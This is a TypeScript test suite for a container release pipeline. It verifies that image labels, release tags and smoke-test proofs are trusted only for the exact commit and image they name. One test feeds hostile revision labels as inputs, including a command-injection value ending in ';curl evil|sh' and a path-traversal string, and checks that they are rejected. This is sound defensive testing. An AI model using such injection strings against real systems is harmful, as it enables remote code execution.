// A proof belongs to one image of one commit: what an image inherits, and what a moved tag names, is never believed.
import { describe, expect, it } from 'vitest'
import type { Digest } from '../../src/domain/digest.ts'
import { digestOf } from '../../src/domain/digest.ts'
import { LABEL, OCI_LABEL } from '../../src/domain/labels.ts'
import { releaseTag } from '../../src/domain/tags.ts'
import { release } from '../../src/pipeline/release.ts'
import { releaseRequest, REVISION, RUNNING, world } from './world.ts'

const TAG = releaseTag(REVISION)
const NEW = digestOf('manifest new content')
const smokes = (calls: readonly string[]) => calls.filter((call) => call.startsWith('smoke'))

/** The engine calls a pulled image by its own config. */
async function pulls(it: ReturnType<typeof world>, digest: Digest, content: string) {
  const runtime = await it.ports.runtime()
  const image = async (reference: string) =>
    reference.endsWith(digest) ? { ...it.facts, id: digestOf(content) } : it.facts
  return { ...it.ports, runtime: async () => ({ ...runtime, image }) }
}

/** A released image, and the labels that everything which is built FROM it inherits. */
async function released() {
  const it = world()
  await release(releaseRequest({ promote: 'release-tag' }), it.ports)
  return { it, labels: it.registry.images.get(NEW)?.labels ?? {} }
}

describe('an image that inherits the labels of a released one', () => {
  const OWN = 'c'.repeat(40)
  const CASES = [
    { what: 'as they are', more: {} },
    { what: 'with a revision of its own', more: { [OCI_LABEL.revision]: OWN } },
    { what: 'without a revision', more: { [OCI_LABEL.revision]: '' } },
  ]

  it.each(CASES)('$what, under the release tag of its commit, is never believed', async ({ more }) => {
    const { it, labels } = await released()
    const child = it.registry.push('child', { ...labels, ...more })
    it.registry.tagged.set(releaseTag(OWN), child)
    it.calls.length = 0
    const result = await release(releaseRequest({ revision: OWN }), it.ports)
    expect(result).toMatchObject({ outcome: 'failed', reasonCode: 'tag-conflict' })
    expect(result.reason).toContain(child)
    expect(it.target.calls.some((call) => call.startsWith('replace'))).toBe(false)
  })

  it('of the very same commit is smoke-tested again, by its own digest', async () => {
    const { it, labels } = await released()
    const child = it.registry.push('child', labels)
    it.registry.tagged.set(TAG, child)
    const ports = await pulls(it, child, 'child')
    it.calls.length = 0
    expect(await release(releaseRequest(), ports)).toMatchObject({ digest: child, outcome: 'healthy' })
    expect(smokes(it.calls)).toEqual([`smoke registry.test/app@${child}`])
  })

  it('from another repository says no commit of its own', async () => {
    const { it, labels } = await released()
    const release_ = `registry.test/base:${TAG}`
    const child = it.registry.push('child', { ...labels, [LABEL.release]: release_ })
    const ports = await pulls(it, child, 'child')
    const result = await release(releaseRequest({ digest: child, revision: undefined, promote: 'release-tag' }), ports)
    expect(result).toMatchObject({ outcome: 'released', digest: child, tags: [] })
    expect(result.revision).toBeUndefined()
    expect(smokes(it.calls)).toContain(`smoke registry.test/app@${child}`)
  })

  it('by digest is smoke-tested, whatever its labels say', async () => {
    const { it, labels } = await released()
    const child = it.registry.push('child', { ...labels, [OCI_LABEL.revision]: OWN })
    const ports = await pulls(it, child, 'child')
    it.calls.length = 0
    const result = await release(releaseRequest({ digest: child, revision: undefined }), ports)
    expect(result).toMatchObject({ outcome: 'healthy', revision: OWN })
    expect(smokes(it.calls)).toEqual([`smoke registry.test/app@${child}`])
  })
})

describe('what the image says of itself', () => {
  it('a release tag that was moved to the image of another commit is refused with both commits', async () => {
    const { it } = await released()
    it.registry.tagged.set(releaseTag(RUNNING), NEW)
    it.calls.length = 0
    const result = await release(releaseRequest({ revision: RUNNING }), it.ports)
    expect(result).toMatchObject({ outcome: 'failed', reasonCode: 'tag-conflict', touched: false })
    expect(result.reason).toContain(REVISION)
    expect(result.reason).toContain(RUNNING)
    expect(it.calls).toEqual([])
  })

  it('a digest of one commit with the revision of another is refused with both, and gets no tag', async () => {
    const { it } = await released()
    const result = await release(releaseRequest({ digest: NEW, revision: RUNNING }), it.ports)
    expect(result).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-commit' })
    expect(result.reason).toMatch(new RegExp(`${REVISION}.*${RUNNING}`))
    expect(it.registry.tagged.has(releaseTag(RUNNING))).toBe(false)
  })

  describe('one commit, several images', () => {
    const web = `${TAG}-web`
    async function releasedWeb() {
      const it = world()
      await release(releaseRequest({ promote: 'release-tag', tagSuffix: 'web' }), it.ports)
      expect(it.registry.tagged.get(web)).toBe(NEW)
      return it
    }

    it.each([undefined, 'worker', 'we', 'web-2'])(
      'the digest of one gets no release tag of another (%s)',
      async (tagSuffix) => {
        const it = await releasedWeb()
        const asked = releaseTag(REVISION, tagSuffix)
        const result = await release(releaseRequest({ digest: NEW, tagSuffix }), it.ports)
        expect(result).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-suffix', touched: false })
        expect(result.reason).toContain(`built for ${web}, not for ${asked}`)
        expect(it.registry.tagged.has(asked)).toBe(false)
      },
    )

    it('its own suffix finds it without another smoke test', async () => {
      const it = await releasedWeb()
      it.calls.length = 0
      const result = await release(releaseRequest({ digest: NEW, revision: undefined, tagSuffix: 'web' }), it.ports)
      expect(result).toMatchObject({ outcome: 'healthy', tags: [web, expect.any(String), expect.any(String)] })
      expect(smokes(it.calls)).toEqual([])
    })

    it('a release tag that was moved to another image of the commit is refused with both', async () => {
      const it = await releasedWeb()
      it.registry.tagged.set(TAG, NEW)
      for (const digest of [undefined, NEW]) {
        const result = await release(releaseRequest({ digest }), it.ports)
        const reasonCode = digest === undefined ? 'tag-conflict' : 'image-of-another-suffix'
        expect(result).toMatchObject({ outcome: 'failed', reasonCode })
        expect(result.reason).toContain(`built for ${web}, not for ${TAG}`)
      }
    })

    it('an image without labels is the one that it was proven as, and no other', async () => {
      const it = world()
      const plain = it.registry.push('plain')
      const ports = await pulls(it, plain, 'plain')
      const request = { digest: plain, promote: 'release-tag' } as const
      await release(releaseRequest({ ...request, tagSuffix: 'web' }), ports)
      const other = await release(releaseRequest({ ...request, tagSuffix: 'worker' }), ports)
      expect(other).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-suffix' })
      expect(other.reason).toContain(`proven for ${web}`)
      expect(it.registry.tagged.has(`${TAG}-worker`)).toBe(false)
    })
  })

  it('an image without a label is the commit that it was proven as, and no other', async () => {
    const it = world()
    const plain = it.registry.push('plain')
    const ports = await pulls(it, plain, 'plain')
    const request = { digest: plain, promote: 'release-tag' } as const
    expect(await release(releaseRequest(request), ports)).toMatchObject({ outcome: 'released', revision: REVISION })
    const other = await release(releaseRequest({ ...request, revision: RUNNING }), ports)
    expect(other).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-commit' })
    const again = await release(releaseRequest({ ...request, revision: undefined }), ports)
    expect(again).toMatchObject({ outcome: 'released', revision: REVISION, tags: [TAG] })
    expect(smokes(it.calls)).toHaveLength(1)
  })

  it.each(['dev.immutable-deploy.expires', LABEL.owner, LABEL.run, LABEL.app, LABEL.history])(
    'an image with %s is refused',
    async (label) => {
      const it = world()
      const marked = it.registry.push('marked', { [label]: '2000-01-01T00:00:00Z' })
      const given = await release(releaseRequest({ digest: marked }), it.ports)
      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
      const runtime = await it.ports.runtime()
      const image = async () => ({ ...it.facts, labels: { [label]: 'x' } })
      const built = await release(releaseRequest(), { ...it.ports, runtime: async () => ({ ...runtime, image }) })
      expect(built).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
      expect(built.reason).toContain(label)
      expect(smokes(it.calls)).toEqual([])
    },
  )

  describe('an index whose first platform is right', () => {
    const index = (otherLabels: readonly Record<string, string>[]) => {
      const it = world()
      const digest = it.registry.push('index', { [OCI_LABEL.revision]: REVISION })
      const image = it.registry.images.get(digest)
      if (image) it.registry.images.set(digest, { ...image, otherLabels })
      return { it, digest }
    }
    const other = 'd'.repeat(40)

    it('and whose second is of another commit is refused, by digest and under the release tag', async () => {
      const { it, digest } = index([{}, { [OCI_LABEL.revision]: other }])
      const given = await release(releaseRequest({ digest, revision: undefined }), it.ports)
      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-commit' })
      expect(given.reason).toMatch(new RegExp(`${other}.*${REVISION}`))
      it.registry.tagged.set(TAG, digest)
      const tagged = await release(releaseRequest(), it.ports)
      expect(tagged).toMatchObject({ outcome: 'failed', reasonCode: 'tag-conflict' })
      expect(smokes(it.calls)).toEqual([])
    })

    it('and whose second was built for another suffix is refused', async () => {
      const labels = { [OCI_LABEL.revision]: REVISION, [LABEL.release]: `registry.test/app:${TAG}-worker` }
      const { it, digest } = index([labels])
      const given = await release(releaseRequest({ digest }), it.ports)
      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-suffix' })
    })

    it('and whose second carries labels of running things is refused', async () => {
      const { it, digest } = index([{ 'dev.immutable-deploy.expires': '2000-01-01T00:00:00Z' }])
      const given = await release(releaseRequest({ digest }), it.ports)
      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
    })

    it('and whose second says the same is released', async () => {
      const { it, digest } = index([{ [OCI_LABEL.revision]: REVISION }])
      const ports = await pulls(it, digest, 'index')
      expect(await release(releaseRequest({ digest }), ports)).toMatchObject({ outcome: 'healthy', digest })
    })
  })

  it.each(['main', 'A'.repeat(40), `${'a'.repeat(40)};curl evil|sh`, '../../../user'])(
    'the label %s names no commit',
    async (label) => {
      const it = world()
      const odd = it.registry.push('odd', { [OCI_LABEL.revision]: label })
      const ports = await pulls(it, odd, 'odd')
      const result = await release(releaseRequest({ digest: odd, revision: undefined }), ports)
      expect(result.revision).toBeUndefined()
    },
  )
})

describe('a proof', () => {
  it('that is gone costs a smoke test and no build, and is written anew', async () => {
    const { it } = await released()
    it.registry.proofs.clear()
    it.calls.length = 0
    const ports = await pulls(it, NEW, 'new content')
    expect(await release(releaseRequest(), ports)).toMatchObject({ outcome: 'healthy', reused: true, digest: NEW })
    expect(it.calls.filter((call) => call === 'build')).toEqual([])
    expect(smokes(it.calls)).toHaveLength(1)
    expect(it.registry.proofs.get(NEW)).toMatchObject({ revision: REVISION, repository: 'registry.test/app' })
  })

  it('of a copy in another repository is not one of this repository', async () => {
    const { it } = await released()
    const proof = it.registry.proofs.get(NEW)
    if (proof) it.registry.proofs.set(NEW, { ...proof, repository: 'registry.test/base' })
    it.calls.length = 0
    await release(releaseRequest(), await pulls(it, NEW, 'new content'))
    expect(smokes(it.calls)).toHaveLength(1)
  })

  it('is not written for what failed, nor for what nobody tested', async () => {
    const red = world({ smoke: { code: 'smoke-exited', what: 'exit code 1' } })
    await release(releaseRequest(), red.ports)
    const off = world()
    await release(releaseRequest({ smoke: 'off', policy: 'off' }), off.ports)
    expect([...red.registry.proofs.keys(), ...off.registry.proofs.keys()]).toEqual([])
  })

  it('that cannot be written is a warning', async () => {
    const it = world()
    it.registry.refusesProofs = { code: 'registry-denied', what: 'tags are immutable' }
    const result = await release(releaseRequest(), it.ports)
    expect(result).toMatchObject({ outcome: 'healthy', warnings: [expect.stringContaining('immutable')] })
  })
})

describe('two runs of one commit at once', () => {
  /** The other run writes its image and the release tag just before ours does. */
  async function quicker(content: string, proven: boolean) {
    const it = world()
    const other = await release(releaseRequest({ promote: 'release-tag' }), it.ports)
    const labels = it.registry.images.get(NEW)?.labels ?? {}
    const proof = it.registry.proofs.get(NEW)
    expect(other.outcome).toBe('released')
    it.registry.tagged.clear()
    it.registry.proofs.clear()
    const winner = it.registry.push(`winner of ${content}`, labels, content)
    const ports = await pulls(it, winner, `winner of ${content}`)
    const runtime = await ports.runtime()
    const push: typeof runtime.push = async (...args) => {
      const digest = await runtime.push(...args)
      it.registry.tagged.set(TAG, winner)
      if (proven && proof) it.registry.proofs.set(winner, { ...proof, digest: winner })
      return digest
    }
    it.calls.length = 0
    const result = await release(releaseRequest(), { ...ports, runtime: async () => ({ ...runtime, push }) })
    return { it, result, winner }
  }

  it('the slower one goes on with what the quicker one has proven', async () => {
    const { it, result, winner } = await quicker('something else', true)
    expect(result).toMatchObject({ outcome: 'healthy', digest: winner, reused: true })
    expect(smokes(it.calls)).toHaveLength(1)
    expect(await it.target.current()).toMatchObject({ workloads: [{ digests: [winner] }] })
  })

  it('the same content without a proof is smoke-tested and taken', async () => {
    const { it, result, winner } = await quicker('new content', false)
    expect(result).toMatchObject({ outcome: 'healthy', digest: winner })
    expect(smokes(it.calls)).toContain(`smoke registry.test/app@${winner}`)
    expect(it.registry.proofs.has(winner)).toBe(true)
  })

  it('another content without a proof is refused', async () => {
    const { result } = await quicker('something else', false)
    expect(result).toMatchObject({ outcome: 'failed', reasonCode: 'tag-conflict' })
  })
})
